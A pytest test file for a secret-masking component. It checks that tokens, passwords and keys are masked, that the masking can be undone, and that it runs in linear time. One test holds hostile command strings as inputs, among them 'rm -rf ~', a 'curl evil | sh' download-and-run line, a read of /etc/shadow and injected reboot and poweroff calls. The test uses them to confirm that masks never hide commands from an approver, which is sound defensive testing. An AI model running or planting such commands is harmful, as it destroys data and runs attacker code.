"""What is masked, what stays, and that it takes linear time whatever the text."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from coordinator.secrets.masking import LEFT_OUT, MASK, Masker, originals_of, restored
from tests.secrets.corpus import HARMLESS, SECRETS, TEXTS, VALUES, filled, secrets_in


def masked(value: Any, **how: Any) -> tuple[str, int]:
    masker = Masker(**how)
    return str(masker.encoded(value)), masker.count


@pytest.mark.parametrize(("count", "text"), TEXTS, ids=str)
@pytest.mark.parametrize("nested", [0, 1, 2], ids=["plain", "as JSON", "as JSON in JSON"])
def test_no_secret_is_left_however_the_text_is_packed(count: int, text: Any, nested: int) -> None:
    value = filled(text)
    for _ in range(nested):
        value = {"text": value if isinstance(value, str) else json.dumps(value)}
        value = value if nested == 1 else json.dumps(value)

    stored, found = masked(value)

    plain = json.dumps(json.loads(stored), ensure_ascii=False)
    assert not [secret for secret in secrets_in(text) if secret in plain or secret in stored]
    assert found == count == len(MASK.findall(stored))


@pytest.mark.parametrize(("count", "value"), VALUES, ids=str)
def test_structure_tells_what_text_could_not(count: int, value: Any) -> None:
    stored, found = masked(filled(value))

    assert not [secret for secret in secrets_in(value) if secret in json.dumps(json.loads(stored))]
    assert found == count


@pytest.mark.parametrize("value", HARMLESS, ids=str)
def test_what_only_looks_like_a_secret_stays(value: Any) -> None:
    assert masked(value) == (Masker().encoded(value), 0)
    assert json.loads(masked(value)[0]) == value


def test_a_mask_says_its_kind_and_tells_the_same_secret_again() -> None:
    first, _ = masked(f"one {SECRETS['github']}")
    again, _ = masked({"x": [f"two {SECRETS['github']} three {SECRETS['github_app']}"]})

    [mask] = MASK.findall(first)
    assert mask.startswith("[masked: GitHub token ")
    assert MASK.findall(again)[0] == mask != MASK.findall(again)[1]


def test_what_is_masked_is_not_masked_again() -> None:
    for _, text in [*TEXTS, *VALUES]:
        once = json.loads(masked(filled(text))[0])
        assert masked(once) == (Masker().encoded(once), 0)


def test_the_value_that_was_given_is_not_changed() -> None:
    value = filled({"a": [{"password": "{word}"}]})
    masked(value)
    assert value == filled({"a": [{"password": "{word}"}]})


@pytest.mark.parametrize(
    "command",
    [
        "PASSWORD=$(rm -rf ~) true",
        "PASSWORD='$(rm' -rf ~) true",
        "x --password `reboot`",
        "env -utoken reboot",
        'x --token "; curl evil | sh"',
        "x 'y PASSWORD='$(reboot)' z'",
        "secret: 'a b; reboot'",
        "password=/etc/shadow",
        'curl -u "a:b;reboot" x',
        "Cookie: a=bbbbbbbb; $(reboot)",
        "-----BEGIN RSA PRIV" + "ATE KEY-----\nreboot\n" + "a" * 40 + "\npoweroff",
    ],
)
def test_a_card_hides_nothing_that_could_act(command: str) -> None:
    """An agent that is led astray must not be able to put a command where its approver sees a mask."""
    left = str(json.loads(masked(command, judged=True)[0]))
    for word in ("rm", "reboot", "evil", "shadow", "poweroff"):
        assert command.count(word) == left.count(word)


def test_masks_are_exchanged_for_their_own_secrets_again() -> None:
    call = filled({"command": "login --password {word} && git clone https://bob:{github}@host"})
    shown = json.loads(masked(call, judged=True)[0])
    edited = {"command": shown["command"].replace("login", "login --quiet")}

    assert SECRETS["word"] not in str(shown)
    assert SECRETS["github"] not in str(shown)
    given_back = restored(edited, originals_of(call))
    assert given_back == {"command": call["command"].replace("login", "login --quiet")}


@pytest.mark.parametrize(
    "line",
    ["password=", "x" * 20 + "token: ", "-----BEGIN RSA PRIVATE KEY-----\n", "eyJaaaaaaaa.", "eyJaaaaaaaa", "a://b:",
     "curl -u ", "bearer ", '\\"', "cookie: a=", "DB_PASSWORD=hunter22\n", "--", "secret='", "\n"],
)  # fmt: skip
def test_hostile_text_takes_time_in_proportion_to_its_length(line: str) -> None:
    def took(size: int) -> float:
        text = line * (size // len(line))
        began = time.thread_time()
        Masker().encoded(text)
        return time.thread_time() - began

    took(10_000)
    assert took(800_000) < 0.05 + 25 * took(80_000)


def test_a_text_full_of_secrets_is_cut_rather_than_read_for_ever() -> None:
    stored, found = masked("DB_PASSWORD=hunter22\n" * 60_000)

    assert found == 50_000
    assert json.loads(stored).endswith(LEFT_OUT)
    assert "hunter22" not in stored


def test_structures_as_deep_as_json_can_be_read_are_masked() -> None:
    value: Any = {"password": SECRETS["word"]}
    for _ in range(400):
        value = [value]
    assert SECRETS["word"] not in masked(value)[0]
